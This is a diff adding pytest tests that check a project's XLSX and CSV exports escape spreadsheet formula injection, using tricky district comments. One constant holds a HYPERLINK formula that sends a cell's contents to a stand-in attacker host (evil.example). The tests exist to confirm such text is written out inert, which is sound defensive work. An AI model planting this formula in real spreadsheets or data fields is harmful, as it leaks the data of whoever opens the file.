@@ -8,6 +8,7 @@ the low items (the trend report of a desk indicator, `audit verify` for operator
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import json
 import os
@@ -18,7 +19,9 @@ import sys
 import time
 from pathlib import Path
 
+import pandas as pd
 import pytest
+from openpyxl import load_workbook
 
 from storage.core.backup import (
     automatic_backup,
@@ -33,6 +36,13 @@ from storage.core.keyslots import MAX_FAILURES, KeyFile, keyfile_path
 from storage.core.session import create_database, open_session
 from storage.errors import AuthError
 from storage.records.users import add_user
+from storage.records.values import list_indicator_values, save_indicator_values
+from storage.reports.build import Report, Table
+from storage.reports.files import write_report
+from storage.sheets.cells import csv_field, csv_text
+from storage.sheets.tables import Sheet, read_rows, write_sheets
+from storage.sheets.values import load_values, write_template
+from storage.validation import ValueInput
 from sync.devices import enroll_device, revoke_device
 from sync.importer import import_bundles
 from sync.inbox import import_inbox, scan_inbox
@@ -222,3 +232,114 @@ def test_automatic_backups_are_pruned_by_age_as_well_as_count(supervisor, distri
 def _key_file(clerk, path: Path) -> Path:
     export_key_file(clerk, path)
     return path
+
+
+# -- item 6: spreadsheet formula injection ----------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for the guide")'
+# A formula, the other starts OWASP lists, an error code, and real comments that begin with a quote.
+TRICKY_COMMENTS = [HYPERLINK, "+92 300 1234567 called", "-see the FIR register", "@home visit", "\tindented",
+                   "#N/A", "'tis the season", "'=already quoted by someone", "''=two quotes", "plain"]
+
+
+def _comment_values(supervisor, comments: list[str]) -> list[ValueInput]:
+    """One indicator figure per comment (PRO-01 in as many past months), saved by the district."""
+    inputs = [ValueInput("PRO-01", "QUETTA", _month(back), value=10 + back, comment=comment)
+              for back, comment in enumerate(comments, start=1)]
+    save_indicator_values(supervisor, inputs)
+    return inputs
+
+
+def _month(back: int) -> str:
+    day = dt.date.today().replace(day=1)
+    for _ in range(back):
+        day = (day - dt.timedelta(days=1)).replace(day=1)
+    return f"{day:%Y-%m}"
+
+
+def _comments_in(path: Path, period_comment: dict[str, str]) -> dict[str, str | None]:
+    """The comment each period's PRO-01 row carries in a template file, as Mizan reads it back."""
+    found = {}
+    for _number, cells in read_rows(path):
+        if cells[0] == "PRO-01" and cells[2] in period_comment and cells[3] == "total":
+            found[cells[2]] = cells[7]
+    return found
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_a_comment_that_is_a_formula_comes_out_of_the_template_as_text(tmp_path: Path, supervisor, suffix: str):
+    """A district comment =HYPERLINK(...) used to come out of the entry template as a live formula (XLSX)
+    or a raw formula field (CSV). Every text cell is now text; figures are numbers; and loading the
+    file back gives every comment exactly as it was typed."""
+    inputs = _comment_values(supervisor, TRICKY_COMMENTS)
+    stored = _stored_comments(supervisor)  # as storage keeps them (it trims the tab's whitespace)
+    assert stored[inputs[0].period] == HYPERLINK
+    for value in inputs:
+        out = tmp_path / f"{value.period}{suffix}"
+        write_template(supervisor, value.period, out)
+        assert _comments_in(out, {value.period: ""}) == {value.period: stored[value.period]}
+        # Back in, for real: every comment as it was (an added quote would change it), the figures numbers.
+        loaded = load_values(supervisor, out)
+        assert loaded.ok and loaded.saved.updated == 0 and loaded.saved.new == 0, loaded.problems
+    assert _stored_comments(supervisor) == stored
+    out = tmp_path / f"{inputs[0].period}{suffix}"
+    if suffix == ".xlsx":
+        sheet = load_workbook(out)["values"]
+        types = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None}
+        assert types == {"s", "n"}  # text and numbers: no formula (f), no error (e)
+        [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "PRO-01" and row[3].value == "total"
+                 and row[2].value == inputs[0].period]
+        assert (row[4].value, row[4].data_type, row[7].value, row[7].data_type, row[7].quotePrefix) == (
+            11, "n", HYPERLINK, "s", True)
+    else:
+        [row] = [row for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines())
+                 if row[0] == "PRO-01" and row[2] == inputs[0].period and row[3] == "total"]
+        assert (row[4], row[7]) == ("11", "'" + HYPERLINK)
+
+
+def _stored_comments(session) -> dict[str, str]:
+    return {v["period"]: v["comment"] for v in list_indicator_values(session, district="QUETTA")
+            if v["indicator"] == "PRO-01" and v["cell"] == "total"}
+
+
+def test_text_is_quoted_in_csv_and_read_back_exactly_while_figures_stay_numbers(tmp_path: Path):
+    """Every text the CSV writer quotes is read back as it was written, and only text is quoted: a figure
+    -5 is a number in both formats (a spreadsheet would read '-5 as text)."""
+    rows = [[comment, -5, 2.5, None] for comment in TRICKY_COMMENTS] + [["-5", -5, -0.25, 0]]
+    for suffix in (".csv", ".xlsx"):
+        out = tmp_path / f"sheet{suffix}"
+        write_sheets(out, [Sheet("values", ("text", "figure", "fraction", "empty"), rows)])
+        back = [cells for _number, cells in read_rows(out)][1:]
+        if suffix == ".csv":
+            assert [cells[0] for cells in back] == [row[0] for row in rows]
+            assert [cells[1:] for cells in back] == [["-5", "2.5", ""]] * len(TRICKY_COMMENTS) + [["-5", "-0.25", "0"]]
+            fields = [row[1] for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines()[1:])]
+            assert set(fields) == {"-5"}  # the figures are not quoted
+        else:
+            assert back == rows
+    assert csv_field(-5) == -5 and csv_field("-5") == "'-5" and csv_text("'-5") == "-5"
+    assert csv_field("'tis") == "'tis" and csv_text("'tis") == "'tis"
+    assert csv_field("'=x") == "''=x" and csv_text("''=x") == "'=x"
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_report_files_write_text_as_text_and_numbers_as_numbers(tmp_path: Path, suffix: str):
+    """Reports carry names and notes that came from districts (desk names, device names): none of their
+    text becomes a formula in XLSX or CSV, and the figure columns stay numeric."""
+    frame = pd.DataFrame({"desk": [HYPERLINK, "@QTA-CITY", "plain"], "clients": [3, -1, 12],
+                          "share": [0.5, -2.25, None], "mixed": ["<5", 7, "=1+1"]})
+    report = Report(kind="desk", title="=TITLE()", scope="+All districts", span="2026", generated_at="-now",
+                    tables=[Table("=caption", frame, formats={"clients": "count", "share": "decimal"})],
+                    notes=["@note"])
+    [written] = write_report(report, tmp_path / f"report{suffix}")
+    if suffix == ".xlsx":
+        sheet = load_workbook(written).active
+        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert {cell.data_type for cell in cells} == {"s", "n"}
+        assert [c.value for c in cells if c.data_type == "n"] == [3, 0.5, -1, -2.25, 7, 12]
+        assert HYPERLINK in [c.value for c in cells] and "=1+1" in [c.value for c in cells]
+    else:
+        lines = written.read_text(encoding="utf-8-sig").splitlines()
+        assert lines[1:] == [f""""'{HYPERLINK.replace('"', '""')}",3,0.5,<5""", "'@QTA-CITY,-1,-2.25,7",
+                             "plain,12,,'=1+1"]
+        assert [csv_text(field) for field in next(csv.reader([lines[1]]))][:1] == [HYPERLINK]
